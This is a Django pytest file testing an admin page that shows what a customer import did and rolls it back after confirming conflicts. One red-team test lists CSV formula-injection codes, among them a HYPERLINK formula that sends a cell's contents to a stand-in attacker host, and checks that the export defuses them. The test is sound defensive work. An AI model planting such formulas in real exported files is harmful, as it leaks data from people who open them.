"""Undo states in the admin: what an import did, and rolling it back from a confirmation
page that shows the conflicts and proceeds over them only when the operator ticks the box."""

import csv
import datetime
import io
import re
from html import unescape

import pytest
from django.contrib.admin.models import LogEntry
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.html import escape

from campaigns.models import Enrollment, Transaction
from core.moments import shown_time
from core.wording import say
from customers.admin import CONFLICTS_CHANGED, SELECT_ONE
from customers.forms import OVERWRITE_LABEL
from customers.models import Customer, UndoState
from customers.rollback import ALREADY_ROLLED_BACK, CHANGED_REASON, CONFLICTS
from customers.rollback_messages import (
    ALL_LINES_FAILED,
    CHANGED_BY_HAND_REASON,
    CHANGED_CREATED_BY_HAND_REASON,
    DID_DELETE,
    DID_REMOVE,
    DID_RESTORE,
    NO_CONFLICTS,
    NOTHING_TO_ROLL_BACK,
    ROLLED_BACK,
    ROLLED_BACK_ON,
    UNCHANGED_LINES,
    WILL_DELETE,
    WILL_REMOVE,
    WILL_RESTORE,
)
from customers.spreadsheet import FORMULA_START
from tests.admin import customer_form, messages_of
from tests.conftest import BUYX, EVENTS, GIFTCARD, POINTS

ROLLBACK_PERMISSIONS = ("view_undostate", "rollback_undostate", "view_customer", "change_customer")


@pytest.fixture
def imports(run_import):
    """Two imports: the first creates C1; the second writes C1 (with a password), creates
    C2 and credits both. Returns the second's undo state."""
    run_import(data="C1|Ann")
    result = run_import(
        ("code", "first_name", "customer_password", "auto_add"),
        "C1|Anna|secret1|5\nC2|Bob|secret2|3",
        overwrite_duplicates="update",
    )
    return UndoState.objects.get(pk=result.undo_state_id)


@pytest.fixture
def staff_client(client, staff_user):
    client.force_login(staff_user(*ROLLBACK_PERMISSIONS))
    return client


def rollback_url(state: UndoState) -> str:
    return reverse("admin:customers_undostate_rollback", args=[state.pk])


def change_url(state: UndoState) -> str:
    return reverse("admin:customers_undostate_change", args=[state.pk])


def edit_in_admin(client, code: str, **changes) -> None:
    customer = Customer.objects.get(code=code)
    url = reverse("admin:customers_customer_change", args=[customer.pk])
    response = client.post(url, customer_form(customer, **changes), follow=True)
    assert response.redirect_chain[0][1] == 302


def by_hand(template: str, code: str) -> str:
    """A conflict's reason naming the latest admin edit of customer `code`, by staffer."""
    customer = Customer.objects.get(code=code)
    edit = LogEntry.objects.filter(object_id=str(customer.pk)).latest("action_time")
    return template.format(code=code, when=shown_time(edit.action_time), who="staffer")


def test_a_customer_deleted_since_the_import_is_named_by_its_code(staff_client, imports):
    # Shop owner, ninth run: "Customer 100008 - Deleted since the import".
    Customer.objects.filter(code="C1").delete()

    html = staff_client.get(change_url(imports)).content.decode()

    assert '<td>Customer C1</td><td colspan="3">Deleted since the import.</td>' in html


def test_detail_page_shows_what_the_import_did(staff_client, imports):
    response = staff_client.get(change_url(imports))

    effects = response.context["effects"]
    c1, c2 = Customer.objects.get(code="C1"), Customer.objects.get(code="C2")
    assert (effects.created_count, effects.created) == (1, [(c2.pk, c2)])
    assert effects.written_count == 1
    assert effects.written == [
        (
            c1.pk,
            c1,
            [("first name", "Ann", "Anna"), ("customer password", "not set", "set")],
            "C1",
        )
    ]
    assert (effects.enrollments_count, effects.credits_count) == (1, 2)
    assert [(e.customer, e.campaign.campaign_id) for e in effects.enrollments] == [(c2, POINTS)]
    assert sorted(credit.amount for credit in effects.credits) == [3, 5]
    html = response.content.decode()
    assert "<th>Before the import</th><th>Now</th>" in html
    assert "<td>first name</td><td>Ann</td><td>Anna</td>" in html


@pytest.mark.parametrize(
    ("campaign", "auto_add", "shown"),
    [(POINTS, "1500", "1,500"), (EVENTS, "2", "2"), (GIFTCARD, "12.5", "12.50")],
)
def test_credits_are_shown_in_the_campaigns_unit_points_whole_money_with_cents(
    staff_client, run_import, campaign, auto_add, shown
):
    result = run_import(("code", "auto_add"), f"P1|{auto_add}", campaigns_to_include=campaign)

    html = staff_client.get(change_url(UndoState.objects.get(pk=result.undo_state_id)))

    assert f"<td>{shown}</td>" in html.content.decode()
    # A buy-X campaign's credit names its item; the others have none.
    assert "<th>Item</th>" not in html.content.decode()


def test_a_buy_x_credit_names_its_item(staff_client, run_import):
    result = run_import(("code", "auto_add"), "P1|Latte", campaigns_to_include=BUYX)

    html = staff_client.get(change_url(UndoState.objects.get(pk=result.undo_state_id)))

    assert "<th>Item</th>" in html.content.decode()
    assert "<td>1</td><td>Latte</td>" in html.content.decode()


def test_detail_page_never_shows_secret_hashes(staff_client, imports):
    html = staff_client.get(change_url(imports)).content.decode()

    for customer in Customer.objects.all():
        assert customer.customer_password.split("$")[-1] not in html


def test_undo_states_cannot_be_added_changed_or_deleted(admin_client, imports):
    assert admin_client.get(reverse("admin:customers_undostate_add")).status_code == 403
    assert admin_client.post(change_url(imports), {"new": "99"}).status_code == 403
    delete_url = reverse("admin:customers_undostate_delete", args=[imports.pk])
    assert admin_client.post(delete_url, {"post": "yes"}).status_code == 403
    imports.refresh_from_db()
    assert (imports.new, imports.status) == (1, UndoState.Status.UNDOABLE)


def test_detail_page_links_to_the_confirmation_page(staff_client, imports):
    html = staff_client.get(change_url(imports)).content.decode()

    assert f'href="{rollback_url(imports)}" class="rollback-link"' in html


def test_confirmation_page_shows_what_is_undone_and_no_conflicts(staff_client, imports):
    response = staff_client.get(rollback_url(imports))

    html = response.content.decode()
    assert response.context["plan"] == [
        say(WILL_DELETE, count=1),
        say(WILL_RESTORE, count=1),
        say(WILL_REMOVE, enrollments=1, credits=2),
    ]
    for line in response.context["plan"]:
        assert f"<li>{escape(line)}</li>" in html
    assert NO_CONFLICTS in html
    assert 'name="overwrite_conflicts"' not in html


def test_rollback_without_conflicts_succeeds(staff_client, imports):
    response = staff_client.post(rollback_url(imports), {"seen_conflicts": ""}, follow=True)

    assert response.redirect_chain == [(change_url(imports), 302)]
    assert messages_of(response) == [
        say(ROLLED_BACK, pk=imports.pk, deleted=1, restored=1, enrollments=1, credits=2)
    ]
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.ROLLED_BACK
    assert list(Customer.objects.values_list("code", "first_name")) == [("C1", "Ann")]
    assert not Transaction.objects.exists()
    assert Enrollment.objects.count() == 1


def test_confirmation_page_shows_conflicts_and_refuses_without_the_checkbox(staff_client, imports):
    edit_in_admin(staff_client, "C1", first_name="Annie")

    page = staff_client.get(rollback_url(imports))
    response = staff_client.post(
        rollback_url(imports), {"seen_conflicts": page.context["form"]["seen_conflicts"].value()}
    )

    # Named as the hand edit it is, with when and by whom (a shop owner's report).
    reason = by_hand(CHANGED_BY_HAND_REASON, "C1")
    assert [c.reason for c in page.context["conflicts"]] == [reason]
    html = unescape(page.content.decode())
    assert reason in html
    assert OVERWRITE_LABEL in html
    assert response.status_code == 200
    assert messages_of(response) == [say(CONFLICTS, count=1)]
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.UNDOABLE
    assert Customer.objects.get(code="C1").first_name == "Annie"
    assert Customer.objects.filter(code="C2").exists()


def test_confirmation_with_the_checkbox_overwrites_later_changes(staff_client, imports):
    edit_in_admin(staff_client, "C1", first_name="Annie")
    page = staff_client.get(rollback_url(imports))

    response = staff_client.post(
        rollback_url(imports),
        {
            "seen_conflicts": page.context["form"]["seen_conflicts"].value(),
            "overwrite_conflicts": "on",
        },
        follow=True,
    )

    assert messages_of(response) == [
        say(ROLLED_BACK, pk=imports.pk, deleted=1, restored=1, enrollments=1, credits=2)
    ]
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.ROLLED_BACK
    assert list(Customer.objects.values_list("code", "first_name")) == [("C1", "Ann")]


def test_conflicts_that_appear_after_the_page_was_shown_are_not_overwritten(staff_client, imports):
    page = staff_client.get(rollback_url(imports))
    edit_in_admin(staff_client, "C1", first_name="Annie")

    response = staff_client.post(
        rollback_url(imports),
        {
            "seen_conflicts": page.context["form"]["seen_conflicts"].value(),
            "overwrite_conflicts": "on",
        },
    )

    assert messages_of(response) == [CONFLICTS_CHANGED]
    assert [c.reason for c in response.context["conflicts"]] == [
        by_hand(CHANGED_BY_HAND_REASON, "C1")
    ]
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.UNDOABLE
    assert Customer.objects.get(code="C1").first_name == "Annie"


def test_an_import_cannot_be_rolled_back_twice(admin_client, imports, admin_user):
    admin_client.post(rollback_url(imports), {"seen_conflicts": ""}, follow=True)

    response = admin_client.post(rollback_url(imports), {"seen_conflicts": ""})

    imports.refresh_from_db()
    when = f"{imports.rolled_back_at.astimezone(datetime.UTC):%Y-%m-%d %H:%M} UTC"
    assert messages_of(response) == [ALREADY_ROLLED_BACK.format(when=when, who="admin")]
    assert imports.rolled_back_by == admin_user


def test_rollback_without_the_permission_is_refused_for_a_staff_user(client, staff_user, imports):
    client.force_login(staff_user("view_undostate", "view_customer"))
    changelist = reverse("admin:customers_undostate_changelist")

    assert client.get(rollback_url(imports)).status_code == 403
    assert client.post(rollback_url(imports), {"seen_conflicts": ""}).status_code == 403
    listing = client.get(changelist)
    # The only action needs the permission, so the list offers none.
    assert listing.context["action_form"] is None
    client.post(changelist, {"action": "roll_back_selected", "_selected_action": [imports.pk]})
    assert 'class="rollback-link"' not in client.get(change_url(imports)).content.decode()
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.UNDOABLE


def test_the_action_leads_to_the_confirmation_page(staff_client, imports):
    response = staff_client.post(
        reverse("admin:customers_undostate_changelist"),
        {"action": "roll_back_selected", "_selected_action": [imports.pk]},
    )

    assert response.status_code == 302
    assert response.url == rollback_url(imports)
    imports.refresh_from_db()
    assert imports.status == UndoState.Status.UNDOABLE


def test_the_action_takes_exactly_one_import(staff_client, imports):
    first = UndoState.objects.exclude(pk=imports.pk).get()

    response = staff_client.post(
        reverse("admin:customers_undostate_changelist"),
        {"action": "roll_back_selected", "_selected_action": [first.pk, imports.pk]},
        follow=True,
    )

    assert messages_of(response) == [SELECT_ONE]
    assert SELECT_ONE == (
        "Select one import to roll back; to undo several, roll back the newest first."
    )
    assert UndoState.objects.filter(status=UndoState.Status.UNDOABLE).count() == 2


def test_a_superuser_may_roll_back_without_being_granted_the_permission(admin_client, imports):
    assert admin_client.get(rollback_url(imports)).status_code == 200


def test_a_rolled_back_import_says_what_the_rollback_did(staff_client, imports):
    staff_client.post(rollback_url(imports), {"seen_conflicts": ""})

    response = staff_client.get(change_url(imports))

    imports.refresh_from_db()
    when = f"{imports.rolled_back_at.astimezone(datetime.UTC):%Y-%m-%d %H:%M} UTC"
    assert response.context["rollback_done"] == [
        ROLLED_BACK_ON.format(when=when, who="staffer"),
        say(DID_DELETE, count=1),
        say(DID_RESTORE, count=1),
        say(DID_REMOVE, enrollments=1, credits=2),
    ]
    html = response.content.decode()
    assert "What the rollback did" in html
    # Not the undo data's counts, which the rollback deleted: they said 0 where New said 1.
    assert "Customers it added:" not in html


def test_a_customer_the_rollback_would_delete_is_said_to_be_deleted(staff_client, imports):
    edit_in_admin(staff_client, "C2", first_name="Bobby")

    response = staff_client.get(rollback_url(imports))

    assert [c.reason for c in response.context["conflicts"]] == [
        by_hand(CHANGED_CREATED_BY_HAND_REASON, "C2")
    ]
    assert "overwritten" not in response.content.decode()


def test_a_change_made_by_another_import_is_not_said_to_be_by_hand(
    staff_client, imports, run_import
):
    edit_in_admin(staff_client, "C1", first_name="Annie")
    # Edited by hand before the import that conflicts, which another import then changed.
    later = run_import(("code", "first_name"), "C1|Anne", overwrite_duplicates="update")
    state = UndoState.objects.get(pk=later.undo_state_id)
    run_import(("code", "first_name"), "C1|Annabel", overwrite_duplicates="update")

    response = staff_client.get(rollback_url(state))

    assert [c.reason for c in response.context["conflicts"]] == [CHANGED_REASON.format(code="C1")]


def test_an_import_in_which_every_line_failed_offers_no_rollback(staff_client, run_import):
    result = run_import(("code", "custom_date"), "F1|not a date\nF2|not a date")
    state = UndoState.objects.get(pk=result.undo_state_id)

    detail = staff_client.get(change_url(state)).content.decode()
    confirmation = staff_client.get(rollback_url(state)).content.decode()

    assert 'class="rollback-link"' not in detail
    assert say(ALL_LINES_FAILED, failed=2) in detail
    assert NOTHING_TO_ROLL_BACK in confirmation
    assert 'type="submit"' not in confirmation.split('id="content-main"')[1]


def test_the_page_tells_updated_lines_that_changed_nothing_from_changed_customers(
    staff_client, run_import
):
    run_import(data="U1|Ann\nU2|Bob")
    result = run_import(data="U1|Ann\nU2|Bobby", overwrite_duplicates="update")
    state = UndoState.objects.get(pk=result.undo_state_id)

    response = staff_client.get(change_url(state))

    assert (state.updated, response.context["effects"].written_count) == (2, 1)
    html = response.content.decode()
    # Updated as the preview counts it: the line that changed nothing is Unchanged.
    assert "Customers it changed: 1" in html
    assert "field-updated_said" in html and "field-unchanged_said" in html
    assert 'id="unchanged-lines"' not in html


def test_the_page_of_an_import_recorded_before_unchanged_was_counted_explains_the_lines(
    staff_client, run_import
):
    run_import(data="U1|Ann\nU2|Bob")
    result = run_import(data="U1|Ann\nU2|Bobby", overwrite_duplicates="update")
    UndoState.objects.filter(pk=result.undo_state_id).update(unchanged=None)

    html = staff_client.get(change_url(UndoState.objects.get(pk=result.undo_state_id)))

    assert escape(say(UNCHANGED_LINES, count=1, updated=2)) in html.content.decode()


def test_an_undo_states_parameters_are_a_readable_list(staff_client, imports):
    html = staff_client.get(change_url(imports)).content.decode()

    for line in (
        "Delimiter: pipe (|)",
        "Mode: update the columns in the file",
        "Columns: code, first_name, customer_password, auto_add",
        "All or nothing: no",
        f"Campaigns: {POINTS}",
    ):
        assert escape(line) in html
    # One line each, beside the label: a list stood 160 px to its right. (In the order
    # the database keeps them: PostgreSQL's jsonb orders keys its own way.)
    shown = re.search(r'<div class="readonly">([^<]*(?:<br>[^<]*)+)</div>', html)
    assert shown is not None
    assert escape("Delimiter: pipe (|)") in shown[1].split("<br>")
    assert "Mode: update the columns in the file" in shown[1].split("<br>")
    assert "overwrite_duplicates" not in html


FORMULA_CODES = ('=HYPERLINK("http://evil.example/"&A1,"x")', "-2+3", "@SUM(1)")


def test_the_conflicts_file_starts_no_cell_with_a_formula(staff_client, run_import):
    """Red team: customer codes sent through the API came out of the rollback's conflicts
    CSV as live formulas."""
    data = "\n".join(f"{code}|a" for code in FORMULA_CODES)
    first = run_import(data=data)
    run_import(data=data.replace("|a", "|b"), overwrite_duplicates="update")
    state = UndoState.objects.get(pk=first.undo_state_id)

    response = staff_client.get(
        reverse("admin:customers_undostate_change", args=[state.pk]).replace(
            "/change/", "/rollback/conflicts.csv"
        )
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))

    codes = {row[0] for row in rows[1:]}
    assert codes == {"'" + code for code in FORMULA_CODES}
    assert not any(cell.startswith(FORMULA_START) for row in rows for cell in row)


def test_the_undo_states_list_names_campaigns_without_a_query_per_row(
    staff_client, run_import, django_assert_max_num_queries
):
    changelist = reverse("admin:customers_undostate_changelist")
    run_import(data="Q1|Ann")
    with CaptureQueriesContext(connection) as one:
        assert staff_client.get(changelist).status_code == 200
    for number in range(2, 12):
        run_import(data=f"Q{number}|Ann", campaigns_to_include=f"{POINTS}|,|{EVENTS}")

    with django_assert_max_num_queries(len(one)):
        html = staff_client.get(changelist).content.decode()
    assert html.count(f"(API)<br>{POINTS}, {EVENTS}</td>") == 10


def test_the_confirmation_button_says_what_it_does_in_shop_words(staff_client, imports):
    html = staff_client.get(rollback_url(imports)).content.decode()

    assert '<input type="submit" id="confirm-rollback" value="Yes, undo this import">' in html
    assert "No, take me back" in html


def test_an_import_that_changed_nothing_is_listed_and_shown_as_nothing_to_roll_back(
    staff_client, run_import, django_assert_max_num_queries
):
    """A shop owner saw "Undoable" in the list and the title of an import whose page said
    there was nothing to roll back: every line repeated its customer as it was."""
    changelist = reverse("admin:customers_undostate_changelist")
    first = run_import(data="N1|Ann\nN2|Bob")
    with CaptureQueriesContext(connection) as one:
        assert staff_client.get(changelist).status_code == 200
    unchanged = [run_import(data="N1|Ann\nN2|Bob") for _ in range(5)]
    states = UndoState.objects.filter(pk__in=[r.undo_state_id for r in unchanged])

    with django_assert_max_num_queries(len(one)):
        listing = staff_client.get(changelist).content.decode()
    page = staff_client.get(change_url(states[0]))

    assert listing.count('<td class="field-status_said">Nothing to roll back</td>') == 5
    assert listing.count('<td class="field-status_said">Undoable</td>') == 1
    assert page.context["nothing_to_undo"]
    html = page.content.decode()
    assert '<div class="readonly">Nothing to roll back</div>' in html
    assert escape(NOTHING_TO_ROLL_BACK) in html
    assert "Undoable" not in html and "Nothing to undo" not in html
    assert all(state.status == UndoState.Status.UNDOABLE for state in states)
    assert UndoState.objects.get(pk=first.undo_state_id).status == UndoState.Status.UNDOABLE


def test_an_unchanged_import_that_credited_its_customers_is_still_undoable(
    staff_client, run_import
):
    run_import(data="E1|Ann")
    again = run_import(
        ("code", "first_name", "auto_add"), "E1|Ann|5", overwrite_duplicates="update"
    )
    state = UndoState.objects.get(pk=again.undo_state_id)
    assert (state.new, state.updated, state.unchanged) == (0, 1, 1)
    assert Transaction.objects.filter(undo_state=state).exists()

    listing = staff_client.get(reverse("admin:customers_undostate_changelist"))
    page = staff_client.get(change_url(state))

    assert not page.context["nothing_to_undo"]
    assert listing.content.decode().count('<td class="field-status_said">Undoable</td>') == 2


def test_an_imports_page_is_titled_by_its_file_and_the_accounts_name(
    staff_client, run_import, account
):
    """A shop owner read "Import 4 into greatwidgets (Undoable)": the account by its slug,
    and the status the page shows anyway."""
    account.name = "Great Widgets"
    account.save()
    from_api = UndoState.objects.get(pk=run_import(data="T1|Ann").undo_state_id)
    from_file = UndoState.objects.get(pk=run_import(data="T2|Bob").undo_state_id)
    from_file.parameters = {**from_file.parameters, "file_name": "spring.csv"}
    from_file.save()

    api_page = staff_client.get(change_url(from_api)).content.decode()
    file_page = staff_client.get(change_url(from_file)).content.decode()

    assert f"<h2>Import {from_api.pk} into Great Widgets</h2>" in api_page
    assert f"<h2>Import {from_file.pk} of spring.csv into Great Widgets</h2>" in file_page
    assert f"<title>Import {from_file.pk} of spring.csv into Great Widgets" in file_page
    assert '<div class="readonly">Undoable</div>' in file_page
    assert "greatwidgets" not in file_page.split("</title>")[0]


def test_an_import_into_an_account_without_a_name_is_titled_by_its_slug(
    staff_client, run_import, account
):
    account.name = ""
    account.save()
    state = UndoState.objects.get(pk=run_import(data="T1|Ann").undo_state_id)

    page = staff_client.get(change_url(state)).content.decode()

    assert f"<h2>Import {state.pk} into greatwidgets</h2>" in page


def test_the_status_filter_says_nothing_to_roll_back_as_the_column_and_the_page_do(
    admin_client, run_import
):
    changed = run_import(data="C1|Ann")
    nothing = run_import(data="C1|Ann", overwrite_duplicates="update")
    failed = run_import(("code", "email"), "C2|not-an-email")
    assert UndoState.objects.get(pk=failed.undo_state_id).status == "nothing_written"
    url = reverse("admin:customers_undostate_changelist")

    def listed(status: str) -> set[int]:
        changelist = admin_client.get(url, {"status": status}).context["cl"]
        return {state.pk for state in changelist.result_list}

    # A shop owner found "Nothing to undo" imports under the Undoable filter, then read
    # "Nothing to undo" in the filter for what the list and the page said "Nothing to roll
    # back": one status, whichever reason (the page says which).
    assert listed("undoable") == {changed.undo_state_id}
    assert listed("nothing_written") == {nothing.undo_state_id, failed.undo_state_id}
    assert listed("nothing_to_undo") == {nothing.undo_state_id, failed.undo_state_id}
    assert listed("rolled_back") == set()
    response = admin_client.get(url)
    changelist = response.context["cl"]
    status_filter = next(spec for spec in changelist.filter_specs if spec.title == "status")
    choices = [choice["display"] for choice in status_filter.choices(changelist)]
    assert choices == ["All", "Undoable", "Nothing to roll back", "Rolled back", "Undo data pruned"]
    html = response.content.decode()
    assert html.count('<td class="field-status_said">Nothing to roll back</td>') == 2
    assert "Nothing to undo" not in html


def test_an_import_not_rolled_back_says_so_as_the_admin_writes_no_value(staff_client, imports):
    # Shop owner, ninth run: "Rolled back by: None" beside "Rolled back at: -".
    html = staff_client.get(change_url(imports)).content.decode()

    by = html[html.index("Rolled back by") :]
    assert by[: by.index("</div>")].rstrip().endswith('<div class="readonly">-')


def test_the_import_history_counts_its_imports(staff_client, imports):
    # Shop owner, ninth run: the list's footer said "2 import history".
    html = staff_client.get(reverse("admin:customers_undostate_changelist")).content.decode()

    assert "2 imports" in html
    assert "import history\n" not in html[html.index('class="paginator"') :]


def test_the_import_history_links_each_import_by_its_number_and_file(staff_client, run_import):
    # Shop owner: the file name, what they looked for, was no link to the import's page.
    from_api = UndoState.objects.get(pk=run_import(data="L1|Ann").undo_state_id)
    from_file = UndoState.objects.get(pk=run_import(data="L2|Bob").undo_state_id)
    from_file.parameters = {**from_file.parameters, "file_name": "spring.csv"}
    from_file.save()

    html = staff_client.get(reverse("admin:customers_undostate_changelist")).content.decode()

    assert (
        f'<th class="field-import_link"><a href="{change_url(from_file)}">'
        f"Import {from_file.pk}<br>spring.csv</a></th>"
    ) in html
    assert (
        f'<th class="field-import_link"><a href="{change_url(from_api)}">'
        f"Import {from_api.pk}</a></th>"
    ) in html


def test_a_rollback_is_logged_as_one_on_home_and_the_imports_history(staff_client, imports):
    # Shop owner: Home's Recent actions said "Changed: Import 6" after a rollback.
    imports.parameters = {**imports.parameters, "file_name": "spring.csv"}
    imports.save()
    staff_client.post(rollback_url(imports), {"seen_conflicts": ""})

    entry = LogEntry.objects.get(object_id=str(imports.pk))
    home = staff_client.get("/admin/").content.decode()
    history = staff_client.get(
        reverse("admin:customers_undostate_history", args=[imports.pk])
    ).content.decode()

    title = f"Rolled back Import {imports.pk} of spring.csv into GW"
    assert entry.object_repr == title
    assert entry.is_change()
    assert entry.get_change_message() == say(
        ROLLED_BACK, pk=imports.pk, deleted=1, restored=1, enrollments=1, credits=2
    )
    assert f'<a href="{change_url(imports)}">{title}</a>' in home
    assert escape(entry.get_change_message()) in history
